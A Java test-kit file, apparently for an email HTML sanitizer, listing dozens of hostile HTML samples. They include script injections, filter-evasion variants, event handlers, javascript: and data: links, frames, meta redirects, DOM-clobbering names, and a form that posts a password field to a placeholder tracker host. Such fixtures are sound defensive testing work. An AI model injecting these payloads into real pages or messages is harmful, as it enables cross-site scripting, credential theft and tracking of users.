package hexmail.testkit.hostile;

import java.util.List;
import java.util.stream.Stream;

/// HTML that would run a script, send a form or move the page on.
final class HostileScripts {
  private static final List<HostileSample> SCRIPTS =
      List.of(
          new HostileSample("a script", "<script>{run}</script>seen"),
          new HostileSample(
              "a script from elsewhere",
              "<script src='{tracker}/a.js'></script><script type=module src={tracker}/m.js></script>seen"),
          new HostileSample("a script in odd letters", "<ScRiPt >{run}</sCrIpT\t\n>seen"),
          new HostileSample("a script in a script", "<scr<script>ipt>{run}</scr</script>ipt>seen"),
          new HostileSample(
              "a script with a slash",
              "<script/x>{run}</script/x><script\n/src='{tracker}/b.js'>;</script>seen"),
          new HostileSample("a script without end", "seen<script>{run}"),
          new HostileSample(
              "a script with a zero byte",
              "<scr\0ipt>{run}</scr\0ipt><img src=x onerror\0={run}>seen"),
          new HostileSample(
              "a script in a comment that ends early",
              "<!--><script>{run}</script>--><!---><img src=x onerror={run}>--><!--a--!><img src=x onerror={run}>seen"),
          new HostileSample(
              "a script in a conditional comment",
              "<!--[if gte mso 9]><script>{run}</script><![endif]--><![if !x]><script>{run}</script><![endif]>seen"),
          new HostileSample(
              "a script in character data",
              "<![CDATA[<script>{run}</script>]]><svg><![CDATA[><img src=x onerror={run}>]]></svg>seen"),
          new HostileSample(
              "a script in an instruction",
              "<?xml version='1.0'?><?php echo 1 ?><? <script>{run}</script> ?>seen"),
          new HostileSample("a script in UTF-7", "+ADw-script+AD4-{run}+ADw-/script+AD4- seen"),
          new HostileSample(
              "a broken picture",
              "<img src=x onerror={run}><IMG SRC=x ONERROR='{run}'><img/src='x'/onerror={run}>seen"),
          new HostileSample(
              "a handler without quotation marks",
              "<img src=`x` onerror=`{run}`><img src=x:x onerror\n=\n'{run}'>seen"),
          new HostileSample(
              "a handler of a body",
              "<body onload={run} onpageshow={run} onhashchange={run}>seen</body>"),
          new HostileSample(
              "a handler of a drawing",
              "seen<svg onload={run}><svg/onload={run}><svg><g onload={run}></g></svg>"),
          new HostileSample(
              "a handler of something that opens",
              "<details open ontoggle={run}><summary>seen</summary>x</details><dialog open onclose={run}>y</dialog>"),
          new HostileSample(
              "a handler of a focus",
              "<input autofocus onfocus={run}><select autofocus onfocus={run}></select><a tabindex=0 autofocus onfocus={run} href=x>seen</a>"),
          new HostileSample(
              "a handler of a marquee", "<marquee onstart={run} onfinish={run}>seen</marquee>"),
          new HostileSample(
              "a handler of a film",
              "<video autoplay onloadstart={run}><source src={tracker}/v.mp4 onerror={run}></video><audio src=x onerror={run}></audio>seen"),
          new HostileSample(
              "a handler of an animation",
              "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart={run} onwebkitanimationend={run}>seen</p>"),
          new HostileSample(
              "a handler of a pointer",
              "<div onpointerover={run} onmousemove={run} onwheel={run} style='width:100%;height:400px'>seen</div>"),
          new HostileSample(
              "a frame",
              "<iframe src='javascript:{run}'></iframe><iframe src='{tracker}/f'></iframe><iframe onload={run}></iframe>seen"),
          new HostileSample(
              "a frame with a document in it",
              "<iframe srcdoc='<script>{run}</script>'></iframe><iframe srcdoc='&lt;img src=x onerror={run}&gt;'></iframe>seen"),
          new HostileSample(
              "frames in the place of a body",
              "<frameset onload={run}><frame src='javascript:{run}'></frameset>seen"),
          new HostileSample(
              "an object",
              "<object data='javascript:{run}'></object><object type=text/html data='{tracker}/o'></object><embed src='{tracker}/e.swf'><applet code=x archive={tracker}/a.jar></applet>seen"),
          new HostileSample(
              "a portal",
              "<portal src='{tracker}/p'></portal><fencedframe src='{tracker}/ff'></fencedframe>seen"),
          new HostileSample(
              "links that run something",
              "<a href='javascript:{run}'>seen</a><a href='jAvAsCrIpT:{run}'>b</a><a href='java\tscript:{run}'>c</a><a href='java&#10;script&colon;{run}'>d</a><a href='\u0001javascript:{run}'>e</a><a href='vbscript:x'>f</a>"),
          new HostileSample(
              "links with data",
              "<a href='data:text/html,<script>{run}</script>'>seen</a><a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>b</a><a href='blob:null/1'>c</a><a href='filesystem:x'>d</a>"),
          new HostileSample(
              "a form",
              "<form action='{tracker}/form' id=x><input name=password type=password><button formaction='javascript:{run}'>seen</button></form><input form=x type=submit><isindex action='{tracker}/i'>"),
          new HostileSample(
              "a form that sends itself",
              "<form action={tracker}/self><input type=image src={tracker}/i.png name=a onerror={run}></form>seen"),
          new HostileSample(
              "another base",
              "<base href='{tracker}/'><base target=_top><img src=base.png><a href='b'>seen</a>"),
          new HostileSample(
              "a page that moves on",
              "<meta http-equiv=refresh content='0;url=javascript:{run}'><meta http-equiv=refresh content='0;{tracker}/refresh'>seen"),
          new HostileSample(
              "a cookie and a policy",
              "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=content-security-policy content='img-src *'><meta name=referrer content=unsafe-url>seen"),
          new HostileSample(
              "things to fetch beforehand",
              "<link rel=stylesheet href={tracker}/a.css><link rel=prefetch href={tracker}/b><link rel=preload as=image href={tracker}/c><link rel=dns-prefetch href=//dns.example><link rel=preconnect href={tracker}><link rel=prerender href={tracker}/d><link rel=icon href={tracker}/e><link rel=manifest href={tracker}/f>seen"),
          new HostileSample(
              "names that hide those of a page",
              "<form name=cookie><input name=body id=documentElement></form><img name=querySelector id=getElementById><a id=content name=main href=x>seen</a>"));

  private HostileScripts() {}

  static Stream<HostileSample> all() {
    return Stream.of(SCRIPTS).flatMap(List::stream);
  }
}
